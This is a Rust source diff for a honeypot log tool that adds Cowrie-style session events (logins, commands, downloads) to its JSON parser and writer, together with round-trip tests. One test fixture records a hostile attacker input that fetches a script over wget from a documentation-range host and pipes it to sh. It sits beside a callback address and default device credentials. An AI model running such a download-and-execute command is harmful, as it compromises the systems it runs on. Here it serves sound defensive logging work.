@@ -7,14 +7,20 @@
 //!
 //! Absent fields are left out, never written as `null` (both are read). Unknown fields are
 //! ignored when reading, so newer writers stay readable.
+//!
+//! Session events use Cowrie's field names (`eventid`, `session`, `src_ip`, `timestamp`, …)
+//! so that pipelines built for Cowrie's JSON read them; Cowrie's own lines (no `ts`, no
+//! `event`) read as session events too.
 
-use std::net::IpAddr;
+use std::borrow::Cow;
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 use std::sync::Arc;
 
 use serde::{Deserialize, Serialize};
 
 use crate::model::{
-    Event, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent, TcpFlags,
+    Event, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent, SessionEvent,
+    SessionEventId, TcpFlags,
 };
 use crate::time::Timestamp;
 
@@ -28,7 +34,9 @@ pub enum JsonError {
     #[error("bad ts (want RFC 3339, e.g. 2016-04-01T00:00:01.000000Z)")]
     Time,
     /// `event` names no known event type.
-    #[error("unknown event type {0:?} (want packet, payload, log_started or log_stopped)")]
+    #[error(
+        "unknown event type {0:?} (want packet, payload, session, log_started or log_stopped)"
+    )]
     EventType(String),
     /// A field the event type requires is missing or malformed.
     #[error("field {0}: missing or malformed")]
@@ -38,11 +46,13 @@ pub enum JsonError {
 /// The flat on-the-wire record; every event type uses a subset of these fields.
 #[derive(Serialize, Deserialize, Default)]
 struct Record<'a> {
-    #[serde(borrow)]
+    // Cowrie's lines have neither `ts` nor `event`: they read as empty, and `timestamp` and
+    // `eventid` stand in.
+    #[serde(default, borrow)]
     ts: std::borrow::Cow<'a, str>,
     #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
     sensor: Option<std::borrow::Cow<'a, str>>,
-    #[serde(borrow)]
+    #[serde(default, borrow)]
     event: std::borrow::Cow<'a, str>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     kind: Option<std::borrow::Cow<'a, str>>,
@@ -80,13 +90,182 @@ struct Record<'a> {
     payload_sha256: Option<std::borrow::Cow<'a, str>>,
     #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
     payload_head: Option<std::borrow::Cow<'a, str>>,
+    // Session events, with Cowrie's names.
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    eventid: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    session: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    protocol: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    src_ip: Option<IpAddr>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    src_port: Option<u16>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    dst_ip: Option<IpAddr>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    dst_port: Option<u16>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    timestamp: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    username: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    password: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    input: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    url: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    host: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    port: Option<u16>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    method: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    outfile: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    destfile: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    filename: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    shasum: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    size: Option<u64>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    arch: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    callback: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    width: Option<u32>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    height: Option<u32>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    name: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    value: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    ttylog: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    duration: Option<Seconds>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    message: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    profile: Option<Cow<'a, str>>,
+}
+
+/// Cowrie's `duration`: seconds as a JSON number, or (some pipelines) a numeric string.
+#[derive(Serialize, Clone, Copy, Debug)]
+struct Seconds(f64);
+
+impl<'de> Deserialize<'de> for Seconds {
+    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
+        struct V;
+        impl serde::de::Visitor<'_> for V {
+            type Value = Seconds;
+            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+                f.write_str("seconds, as a number or a numeric string")
+            }
+            fn visit_f64<E: serde::de::Error>(self, v: f64) -> Result<Seconds, E> {
+                Ok(Seconds(v))
+            }
+            fn visit_u64<E: serde::de::Error>(self, v: u64) -> Result<Seconds, E> {
+                Ok(Seconds(v as f64))
+            }
+            fn visit_i64<E: serde::de::Error>(self, v: i64) -> Result<Seconds, E> {
+                Ok(Seconds(v as f64))
+            }
+            fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Seconds, E> {
+                v.trim()
+                    .parse()
+                    .map(Seconds)
+                    .map_err(|_| E::custom("duration: not a number"))
+            }
+        }
+        d.deserialize_any(V)
+    }
+}
+
+/// The longest duration read, in µs (about 35 years): below 2^51 µs, every six-digit
+/// decimal of seconds names one µs value through an f64, so durations round-trip exactly.
+const MAX_DURATION_US: u64 = 1 << 50;
+
+/// Seconds as read to whole µs, if they are a duration honeyscope keeps.
+fn duration_us(s: Seconds) -> Option<u64> {
+    let us = (s.0 * 1e6).round();
+    (us.is_finite() && us >= 0.0 && us <= MAX_DURATION_US as f64).then_some(us as u64)
+}
+
+/// Parses a session event: ours (`"event":"session"`) or Cowrie's own line. Cowrie writes
+/// the ports, `dst_ip` and `protocol` only on `cowrie.session.connect`; where they are
+/// absent they read as 0, the unspecified address of `src_ip`'s family, and the empty
+/// string.
+fn parse_session(
+    r: Record<'_>,
+    time: Timestamp,
+    sensor: Option<Arc<str>>,
+) -> Result<Event, JsonError> {
+    let eventid = r
+        .eventid
+        .as_deref()
+        .and_then(SessionEventId::from_name)
+        .ok_or(JsonError::Field("eventid"))?;
+    let session = r.session.ok_or(JsonError::Field("session"))?;
+    let src = r.src_ip.ok_or(JsonError::Field("src_ip"))?;
+    let dst = r.dst_ip.unwrap_or(match src {
+        IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::UNSPECIFIED),
+        IpAddr::V6(_) => IpAddr::V6(Ipv6Addr::UNSPECIFIED),
+    });
+    let mut s = SessionEvent::new(
+        time,
+        eventid,
+        &session,
+        r.protocol.as_deref().unwrap_or(""),
+        (src, r.src_port.unwrap_or(0)).into(),
+        (dst, r.dst_port.unwrap_or(0)).into(),
+    );
+    let own = |v: Option<Cow<'_, str>>| v.map(|v| Box::<str>::from(v.as_ref()));
+    s.sensor = sensor;
+    s.username = own(r.username);
+    s.password = own(r.password);
+    s.input = own(r.input);
+    s.url = own(r.url);
+    s.host = own(r.host);
+    s.port = r.port;
+    s.method = own(r.method);
+    s.outfile = own(r.outfile);
+    s.destfile = own(r.destfile);
+    s.filename = own(r.filename);
+    s.shasum = own(r.shasum);
+    s.size = r.size;
+    s.arch = own(r.arch);
+    s.callback = own(r.callback);
+    s.width = r.width;
+    s.height = r.height;
+    s.name = own(r.name);
+    s.value = own(r.value);
+    s.ttylog = own(r.ttylog);
+    s.duration_us = match r.duration {
+        Some(d) => Some(duration_us(d).ok_or(JsonError::Field("duration"))?),
+        None => None,
+    };
+    s.message = own(r.message);
+    s.profile = own(r.profile);
+    Ok(Event::Session(Box::new(s)))
 }
 
 /// Parses one JSON line.
 pub fn parse_line(line: &[u8]) -> Result<Event, JsonError> {
     let r: Record<'_> = serde_json::from_slice(line)?;
-    let time = Timestamp::parse_rfc3339(&r.ts).ok_or(JsonError::Time)?;
-    let sensor: Option<Arc<str>> = r.sensor.map(|s| Arc::from(s.as_ref()));
+    // Cowrie's lines have `timestamp` where ours have `ts` (ours have both).
+    let ts = match (&*r.ts, &r.timestamp) {
+        ("", Some(t)) => t,
+        _ => &r.ts,
+    };
+    let time = Timestamp::parse_rfc3339(ts).ok_or(JsonError::Time)?;
+    let sensor: Option<Arc<str>> = r.sensor.as_ref().map(|s| Arc::from(s.as_ref()));
+    if r.event == "session" || (r.event.is_empty() && r.eventid.is_some()) {
+        return parse_session(r, time, sensor);
+    }
     if r.event == "packet" {
         let kind = r
             .kind
@@ -183,6 +362,45 @@ pub fn write_event(ev: &Event, out: &mut String) {
     text(out, key!("sensor"), ev.sensor().map(|s| &**s));
     match ev {
         Event::Lifecycle(l) => text(out, key!("event"), Some(l.state.as_str())),
+        Event::Session(s) => {
+            out.push_str(concat!(key!("event"), "\"session\""));
+            text(out, key!("eventid"), Some(s.eventid.as_str()));
+            text(out, key!("session"), Some(&s.session));
+            text(out, key!("protocol"), Some(&s.protocol));
+            ip(out, key!("src_ip"), s.src);
+            num(out, key!("src_port"), Some(u64::from(s.sport)));
+            ip(out, key!("dst_ip"), s.dst);
+            num(out, key!("dst_port"), Some(u64::from(s.dport)));
+            // Cowrie's name for the time, for pipelines keyed on it: the same as `ts`.
+            out.push_str(concat!(key!("timestamp"), "\""));
+            s.time.write_rfc3339(out);
+            out.push('"');
+            text(out, key!("username"), s.username.as_deref());
+            text(out, key!("password"), s.password.as_deref());
+            text(out, key!("input"), s.input.as_deref());
+            text(out, key!("url"), s.url.as_deref());
+            text(out, key!("host"), s.host.as_deref());
+            num(out, key!("port"), s.port.map(u64::from));
+            text(out, key!("method"), s.method.as_deref());
+            text(out, key!("outfile"), s.outfile.as_deref());
+            text(out, key!("destfile"), s.destfile.as_deref());
+            text(out, key!("filename"), s.filename.as_deref());
+            text(out, key!("shasum"), s.shasum.as_deref());
+            num(out, key!("size"), s.size);
+            text(out, key!("arch"), s.arch.as_deref());
+            text(out, key!("callback"), s.callback.as_deref());
+            num(out, key!("width"), s.width.map(u64::from));
+            num(out, key!("height"), s.height.map(u64::from));
+            text(out, key!("name"), s.name.as_deref());
+            text(out, key!("value"), s.value.as_deref());
+            text(out, key!("ttylog"), s.ttylog.as_deref());
+            if let Some(us) = s.duration_us {
+                out.push_str(key!("duration"));
+                push_seconds(out, us);
+            }
+            text(out, key!("message"), s.message.as_deref());
+            text(out, key!("profile"), s.profile.as_deref());
+        }
         Event::Payload(d) => {
             out.push_str(concat!(key!("event"), "\"payload\""));
             num(out, key!("proto"), Some(u64::from(d.proto)));
@@ -219,6 +437,26 @@ pub fn write_event(ev: &Event, out: &mut String) {
         }
     }
     out.push_str("}\n");
+}
+
+/// Appends µs as decimal seconds: the whole seconds, a point, and the six fraction digits
+/// without trailing zeros (at least one digit): `12.5`, `3.0`, `0.000001`. Exact, and a
+/// plain JSON number as Cowrie's float seconds are.
+fn push_seconds(out: &mut String, us: u64) {
+    crate::text::push_u64(out, us / 1_000_000);
+    out.push('.');
+    let mut frac = us % 1_000_000;
+    let mut digits = 6;
+    while digits > 1 && frac.is_multiple_of(10) {
+        frac /= 10;
+        digits -= 1;
+    }
+    let mut buf = [b'0'; 6];
+    for d in buf[..digits].iter_mut().rev() {
+        *d = b'0' + (frac % 10) as u8;
+        frac /= 10;
+    }
+    crate::text::push_ascii(out, &buf[..digits]);
 }
 
 /// Appends `s` as a JSON string, escaped exactly as serde_json does: `"` and `\\`, the
@@ -285,6 +523,47 @@ mod tests {
                 payload_head: Some(d.head.to_string().into()),
                 ..Record::default()
             },
+            Event::Session(s) => {
+                fn t(v: &Option<Box<str>>) -> Option<Cow<'_, str>> {
+                    v.as_deref().map(Into::into)
+                }
+                Record {
+                    ts: ts.clone().into(),
+                    sensor: s.sensor.as_deref().map(Into::into),
+                    event: "session".into(),
+                    eventid: Some(s.eventid.as_str().into()),
+                    session: Some(s.session.to_string().into()),
+                    protocol: Some(s.protocol.to_string().into()),
+                    src_ip: Some(s.src),
+                    src_port: Some(s.sport),
+                    dst_ip: Some(s.dst),
+                    dst_port: Some(s.dport),
+                    timestamp: Some(ts.into()),
+                    username: t(&s.username),
+                    password: t(&s.password),
+                    input: t(&s.input),
+                    url: t(&s.url),
+                    host: t(&s.host),
+                    port: s.port,
+                    method: t(&s.method),
+                    outfile: t(&s.outfile),
+                    destfile: t(&s.destfile),
+                    filename: t(&s.filename),
+                    shasum: t(&s.shasum),
+                    size: s.size,
+                    arch: t(&s.arch),
+                    callback: t(&s.callback),
+                    width: s.width,
+                    height: s.height,
+                    name: t(&s.name),
+                    value: t(&s.value),
+                    ttylog: t(&s.ttylog),
+                    duration: s.duration_us.map(|us| Seconds(us as f64 / 1e6)),
+                    message: t(&s.message),
+                    profile: t(&s.profile),
+                    ..Record::default()
+                }
+            }
             Event::Packet(p) => Record {
                 ts: ts.into(),
                 sensor: p.sensor.as_deref().map(Into::into),
@@ -369,6 +648,190 @@ mod tests {
             assert_eq!(ours, via_serde(&ev));
             assert_eq!(parse_line(ours.trim_end().as_bytes()).unwrap(), ev);
         }
+    }
+
+    /// A session event of `id` with every field set (to values whose JSON serde writes as
+    /// the hand-written writer does: durations are ones ryu prints in plain decimals).
+    fn full_session(id: SessionEventId, n: u64) -> SessionEvent {
+        let t = Timestamp::from_micros(1_700_000_000_123_456 + n as i64).unwrap();
+        let mut s = SessionEvent::new(
+            t,
+            id,
+            "a1b2c3d4e5f6",
+            "telnet",
+            "203.0.113.9:40000".parse().unwrap(),
+            "[2001:db8::7]:23".parse().unwrap(),
+        );
+        s.sensor = Some("tokyo-1".into());
+        s.username = Some("root".into());
+        s.password = Some("xc3511\"\\".into());
+        s.input = Some("cd /tmp; wget http://198.51.100.1/x.sh -O- | sh\\x0d".into());
+        s.url = Some("http://198.51.100.1:8080/x.sh".into());
+        s.host = Some("198.51.100.1".into());
+        s.port = Some(8080);
+        s.method = Some("wget".into());
+        s.outfile = Some(format!("artifacts/{}", "ab".repeat(32)).into());
+        s.destfile = Some("/tmp/x.sh".into());
+        s.filename = Some("/tmp/.d".into());
+        s.shasum = Some("ab".repeat(32).into());
+        s.size = Some(1 << 40);
+        s.arch = Some("arm".into());
+        s.callback = Some("198.51.100.1:4444".into());
+        s.width = Some(80);
+        s.height = Some(24);
+        s.name = Some("TERM".into());
+        s.value = Some("xterm-256color 日本".into());
+        s.ttylog = Some("tty/a1b2c3d4e5f6.cast".into());
+        s.duration_us = Some([12_345_678, 7_500_000, 3_000_000][n as usize % 3]);
+        s.message = Some("login attempt [root/xc3511] succeeded".into());
+        s.profile = Some("hikvision-dvr".into());
+        s
+    }
+
+    #[test]
+    fn session_events_round_trip_with_every_field() {
+        for (n, &id) in SessionEventId::ALL.iter().enumerate() {
+            let full = full_session(id, n as u64);
+            let bare = SessionEvent::new(
+                full.time,
+                id,
+                "000000000000",
+                "telnet",
+                "0.0.0.0:0".parse().unwrap(),
+                "255.255.255.255:65535".parse().unwrap(),
+            );
+            for ev in [
+                Event::Session(Box::new(full)),
+                Event::Session(Box::new(bare)),
+            ] {
+                let mut ours = String::new();
+                write_event(&ev, &mut ours);
+                assert_eq!(ours, via_serde(&ev));
+                assert_eq!(
+                    parse_line(ours.trim_end().as_bytes()).unwrap(),
+                    ev,
+                    "{ours}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn session_json_has_cowries_names() {
+        let mut s = SessionEvent::new(
+            Timestamp::from_micros(1_459_468_801_500_000).unwrap(),
+            SessionEventId::LoginSuccess,
+            "a1b2c3d4e5f6",
+            "telnet",
+            "203.0.113.9:40000".parse().unwrap(),
+            "198.51.100.7:23".parse().unwrap(),
+        );
+        s.username = Some("root".into());
+        s.password = Some("xc3511".into());
+        s.message = Some("login attempt [root/xc3511] succeeded".into());
+        let mut json = String::new();
+        write_event(&Event::Session(Box::new(s)), &mut json);
+        assert_eq!(
+            json,
+            r#"{"ts":"2016-04-01T00:00:01.500000Z","event":"session","eventid":"cowrie.login.success","session":"a1b2c3d4e5f6","protocol":"telnet","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":23,"timestamp":"2016-04-01T00:00:01.500000Z","username":"root","password":"xc3511","message":"login attempt [root/xc3511] succeeded"}
+"#
+        );
+    }
+
+    #[test]
+    fn durations_are_exact_decimal_seconds() {
+        for (us, text) in [
+            (0, "0.0"),
+            (1, "0.000001"),
+            (7_500_000, "7.5"),
+            (12_345_678, "12.345678"),
+            (MAX_DURATION_US, "1125899906.842624"),
+        ] {
+            let mut out = String::new();
+            push_seconds(&mut out, us);
+            assert_eq!(out, text);
+            assert_eq!(duration_us(Seconds(text.parse().unwrap())), Some(us));
+        }
+        let mut s = full_session(SessionEventId::Closed, 0);
+        s.duration_us = Some(1);
+        let ev = Event::Session(Box::new(s));
+        let mut json = String::new();
+        write_event(&ev, &mut json);
+        assert_eq!(parse_line(json.trim_end().as_bytes()).unwrap(), ev);
+        for bad in ["-1", "1e300", "\"x\""] {
+            let line = format!(
+                r#"{{"eventid":"cowrie.session.closed","session":"a","src_ip":"::1","timestamp":"2016-04-01T00:00:01Z","duration":{bad}}}"#
+            );
+            assert!(parse_line(line.as_bytes()).is_err(), "{line}");
+        }
+    }
+
+    #[test]
+    fn cowries_own_lines_read_as_session_events() {
+        // As Cowrie writes them: no `ts` or `event`, fields honeyscope does not keep
+        // (`uuid`, `duplicate`, `isError`, …), and ports and `dst_ip` only on connect.
+        let connect = parse_line(
+            br#"{"eventid":"cowrie.session.connect","src_ip":"203.0.113.9","src_port":51234,"dst_ip":"198.51.100.7","dst_port":23,"session":"9f8e7d6c5b4a","protocol":"telnet","message":"New connection: 203.0.113.9:51234 (198.51.100.7:23) [session: 9f8e7d6c5b4a]","sensor":"cowrie-1","uuid":"5f3a-11ee","timestamp":"2024-01-15T08:30:12.345678Z"}"#,
+        )
+        .unwrap();
+        let Event::Session(c) = &connect else {
+            panic!("{connect:?}")
+        };
+        assert_eq!(c.eventid, SessionEventId::Connect);
+        assert_eq!((&*c.session, &*c.protocol), ("9f8e7d6c5b4a", "telnet"));
+        assert_eq!((c.sport, c.dport), (51234, 23));
+        assert_eq!(c.sensor.as_deref(), Some("cowrie-1"));
+        assert_eq!(
+            c.time,
+            Timestamp::parse_rfc3339("2024-01-15T08:30:12.345678Z").unwrap()
+        );
+
+        let login = parse_line(
+            br#"{"eventid":"cowrie.login.failed","username":"admin","password":"1234","message":"login attempt [admin/1234] failed","sensor":"cowrie-1","timestamp":"2024-01-15T08:30:13.000001Z","src_ip":"203.0.113.9","session":"9f8e7d6c5b4a","isError":0,"system":"CowrieTelnetTransport,0,203.0.113.9"}"#,
+        )
+        .unwrap();
+        let Event::Session(l) = &login else {
+            panic!("{login:?}")
+        };
+        assert_eq!(l.eventid, SessionEventId::LoginFailed);
+        assert_eq!(l.username.as_deref(), Some("admin"));
+        assert_eq!(l.password.as_deref(), Some("1234"));
+        assert_eq!(
+            (l.dst, l.sport, l.dport, &*l.protocol),
+            ("0.0.0.0".parse().unwrap(), 0, 0, "")
+        );
+
+        let closed = parse_line(
+            br#"{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/0f1e","size":1234,"shasum":"0f1e","duplicate":false,"duration":"12.5","message":"Closing TTY Log","sensor":"c","timestamp":"2024-01-15T08:31:00Z","src_ip":"2001:db8::9","session":"9f8e7d6c5b4a"}"#,
+        )
+        .unwrap();
+        let Event::Session(t) = &closed else {
+            panic!("{closed:?}")
+        };
+        assert_eq!(t.duration_us, Some(12_500_000));
+        assert_eq!(t.size, Some(1234));
+        assert_eq!(t.dst, "::".parse::<IpAddr>().unwrap());
+
+        // Each reads back the same after writing.
+        for ev in [connect, login, closed] {
+            let mut json = String::new();
+            write_event(&ev, &mut json);
+            assert_eq!(parse_line(json.trim_end().as_bytes()).unwrap(), ev);
+        }
+
+        // An eventid honeyscope does not model, and a session event without its session.
+        assert!(matches!(
+            parse_line(
+                br#"{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","src_ip":"::1","session":"a","timestamp":"2024-01-15T08:31:00Z"}"#
+            ),
+            Err(JsonError::Field("eventid"))
+        ));
+        assert!(matches!(
+            parse_line(
+                br#"{"ts":"2024-01-15T08:31:00Z","event":"session","eventid":"cowrie.session.closed","src_ip":"::1"}"#
+            ),
+            Err(JsonError::Field("session"))
+        ));
     }
 
     #[test]
